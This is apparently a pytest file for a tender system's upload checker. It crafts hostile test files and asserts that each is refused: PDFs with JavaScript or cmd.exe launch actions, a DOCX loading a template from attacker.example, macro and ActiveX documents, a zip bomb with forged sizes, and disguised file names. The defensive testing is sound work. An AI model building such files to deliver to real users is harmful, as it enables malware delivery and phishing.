"""Uploads refuse active content, external links, real zip bombs and disguised names (issue 13, case 7).

Every file here is crafted byte by byte or with the library that would make it, so the
checks meet what an attacker would send. Each refusal names the problem; nothing is stored.
"""
from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from common.errors import RuleViolation
from tenders import services
from tenders.models import BidDocument
from tenders.uploads import DOCX, PDF, XLSX, UploadRejected, check_document
from tests.tenders.bidding_support import CONTENT_TYPES, PDF_BYTES, _zip, open_tender, upload, xlsx_bytes

LIMIT = 10 * 1024 * 1024


def refused(data: bytes, name: str = "upload.pdf") -> str:
    with pytest.raises(UploadRejected) as exc:
        check_document(data, name=name, max_bytes=LIMIT)
    return exc.value.message


def pdf(*objects: bytes) -> bytes:
    """A small PDF whose catalog is object 1; extra objects are numbered from 3."""
    body = b"%PDF-1.7\n"
    for number, obj in enumerate(objects, start=1):
        body += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    return body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def written_pdf(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- PDF -----------------------------------------------------------------------------

def test_a_pdf_that_runs_javascript_when_opened_is_refused():
    data = pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert('hi')) >> >>",
               b"<< /Type /Pages /Kids [] /Count 0 >>")
    assert "contains JavaScript" in refused(data)


def test_javascript_added_by_a_pdf_library_is_refused():
    data = written_pdf(lambda w: w.add_open_action(JavaScript("this.print({bUI:true});")))
    assert "contains JavaScript" in refused(data)


def test_a_javascript_name_hidden_with_hex_escapes_is_refused():
    data = pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (x) >> >>",
               b"<< /Type /Pages /Kids [] /Count 0 >>")
    assert "contains JavaScript" in refused(data)


def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
    hidden = zlib.compress(b"3 0 << /S /JavaScript /JS (app.alert(1)) >>")
    data = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>",
               b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(hidden)
               + hidden + b"\nendstream")
    assert "contains JavaScript" in refused(data)


def test_a_pdf_that_launches_a_program_is_refused():
    data = pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
               b"<< /Type /Pages /Kids [] /Count 0 >>")
    assert "launches another program" in refused(data)


def test_a_pdf_with_an_embedded_file_is_refused():
    data = written_pdf(lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00"))
    assert "has files embedded in it" in refused(data)


def test_an_ordinary_pdf_is_accepted_even_when_its_text_mentions_javascript():
    content = b"BT /F1 12 Tf 72 720 Td (We do not use JavaScript or launch actions) Tj ET"
    data = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
               b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    assert check_document(data, name="policy.pdf", max_bytes=LIMIT).content_type == PDF
    assert check_document(written_pdf(lambda w: None), name="blank.pdf", max_bytes=LIMIT).content_type == PDF


# --- Office --------------------------------------------------------------------------

def docx(**extra: bytes) -> bytes:
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": b"<Relationships/>",
             "word/document.xml": b"<w:document>Staffing plan</w:document>"}
    parts.update({k.replace("__", "/").replace("_dot_", "."): v for k, v in extra.items()})
    return _zip(parts)


RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '{}</Relationships>')


def relationship(kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return (f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
            f' Target="{target}"{mode}/>')


def test_a_docx_with_an_external_template_is_refused():
    rels = RELS.format(relationship("attachedTemplate", "http://attacker.example/t.dotm")).encode()
    message = refused(docx(word___rels__settings_dot_xml_dot_rels=rels), name="plan.docx")
    assert "links to something outside the document" in message
    assert "attachedTemplate -> http://attacker.example/t.dotm" in message


def test_a_docx_with_ordinary_hyperlinks_is_accepted():
    rels = RELS.format(relationship("hyperlink", "https://www.cqc.org.uk/")).encode()
    data = docx(word___rels__document_dot_xml_dot_rels=rels)
    assert check_document(data, name="plan.docx", max_bytes=LIMIT).content_type == DOCX


def test_an_xlsx_linked_to_an_external_workbook_is_refused():
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes()))
    parts = {info.filename: source.read(info) for info in source.infolist()}
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = RELS.format(
        relationship("externalLinkPath", "file:///C:/secret/prices.xlsx")).encode()
    assert "outside the document" in refused(_zip(parts), name="rota.xlsx")
    assert check_document(xlsx_bytes(), name="rota.xlsx", max_bytes=LIMIT).content_type == XLSX


def test_a_macro_enabled_document_renamed_to_docx_is_refused():
    types = (b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" '
             b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')
    data = _zip({"[Content_Types].xml": types, "word/document.xml": b"<w:document/>"})
    assert "contains macros" in refused(data, name="plan.docx")


def test_activex_controls_are_refused():
    assert "ActiveX" in refused(docx(word__activeX__activeX1_dot_bin=b"\x00" * 32), name="plan.docx")


# --- archives: the real decompressed size, not the declared one --------------------------

def falsify_sizes(data: bytes, member: str, declared: int) -> bytes:
    """Rewrite `member`'s uncompressed size in its local header and the central directory."""
    out = bytearray(data)
    encoded = member.encode()
    for signature, size_at, name_len_at, header_len in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        at = out.find(signature)
        while at != -1:
            name_len = struct.unpack_from("<H", out, at + name_len_at)[0]
            if out[at + header_len:at + header_len + name_len] == encoded:
                struct.pack_into("<I", out, at + size_at, declared)
            at = out.find(signature, at + 4)
    return bytes(out)


def test_a_zip_bomb_declaring_small_sizes_is_found_by_inflating_it():
    bomb = falsify_sizes(docx(word__filler_dot_xml=b"\x00" * (60 * 1024 * 1024)), "word/filler.xml", 1000)
    declared = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(bomb)).infolist())
    assert declared < 2000 and len(bomb) < 200 * 1024  # the old check (declared sizes) let this through
    assert "expands to far more than its size" in refused(bomb, name="plan.docx")


def test_declared_sizes_that_do_not_match_the_content_are_refused():
    crafted = falsify_sizes(docx(), "word/document.xml", 3)
    assert "declares sizes inside that do not match" in refused(crafted, name="plan.docx")


# --- names ---------------------------------------------------------------------------

@pytest.mark.parametrize("name, says", [
    ("policy.pdf.exe", "double extension (.pdf.exe)"),
    ("plan.docx.js", "double extension (.docx.js)"),
    ("invoice.pdf.scr", "double extension"),
    ("policy.pdf.zip", "double extension (.pdf.zip)"),
    ("setup.exe", "can run code"),
    ("plan\u202excod.exe", "hidden characters"),
])
def test_names_that_disguise_a_program_are_refused_whatever_the_content(name, says):
    assert says in refused(PDF_BYTES, name=name)


@pytest.mark.parametrize("name", ["Our policy v1.2.pdf", "rota 2026.01.xlsx", "plan", "policy.final.pdf",
                                  "Scan.jpg.pdf", "report.docx.pdf"])
def test_ordinary_names_with_dots_are_accepted(name):
    assert check_document(PDF_BYTES, name=name, max_bytes=LIMIT).content_type == PDF


# --- nothing stored on refusal -----------------------------------------------------------

@pytest.mark.django_db
def test_a_refused_upload_leaves_no_record_and_no_file(bidder, settings):
    bid = services.bid_start(tender=open_tender(), user=bidder)
    before = {os.path.join(d, f) for d, _, fs in os.walk(settings.MEDIA_ROOT) for f in fs}
    js = pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>",
             b"<< /Type /Pages /Kids [] /Count 0 >>")
    with pytest.raises(RuleViolation) as exc:
        services.bid_add_document(bid=bid, user=bidder, upload=upload("policy.pdf", js))
    assert "policy.pdf contains JavaScript" in exc.value.message and exc.value.field == "document"
    assert not BidDocument.objects.exists()
    assert {os.path.join(d, f) for d, _, fs in os.walk(settings.MEDIA_ROOT) for f in fs} == before
